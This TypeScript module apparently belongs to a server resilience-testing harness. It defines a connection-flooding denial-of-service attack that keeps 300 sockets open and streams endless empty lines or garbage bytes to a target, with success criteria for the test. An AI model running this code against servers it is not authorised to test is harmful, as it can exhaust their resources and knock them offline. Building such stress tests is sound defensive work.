import { once } from 'node:events';
import { connect } from 'node:net';
import { ATTACK_MS, type Attack, repeatConcurrently } from './attack.ts';

const CONNECTIONS = 300;
const CLOSING_REQUEST = 'GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n';
const GARBAGE = Buffer.alloc(65_536, 'x');
const EMPTY_LINES = Buffer.alloc(65_536, '\r\n');

export const ENDLESS_BYTES: Attack = {
  name: 'endless bytes outside of requests',
  effect: `Sends endless bytes on ${CONNECTIONS} connections from one address: empty lines, or garbage after a request with Connection: close. Replaces connections that are closed.`,
  countsIf: `${CONNECTIONS} connections were closed, or still open at the end`,
  durationMs: ATTACK_MS,
  isOnConnections: true,
  hasHappened: ({ closed = 0, unfinished = 0 }) => closed + unfinished >= CONNECTIONS,
  async send({ url, caller: { localAddress } }, signal) {
    const { hostname, port } = new URL(url);
    return await repeatConcurrently(CONNECTIONS, signal, async (index) => {
      const socket = connect({ host: hostname, port: Number(port), localAddress, signal }).resume();
      await once(socket, 'connect');
      const isGarbage = index % 3 > 0;
      if (isGarbage) socket.write(CLOSING_REQUEST);
      const bytes = isGarbage ? GARBAGE : EMPTY_LINES;
      socket.on('drain', () => socket.write(bytes));
      socket.write(bytes);
      // nginx closes the connection, mostly with an error.
      await once(socket, 'close').catch(() => signal.throwIfAborted());
      return 'closed';
    });
  },
};
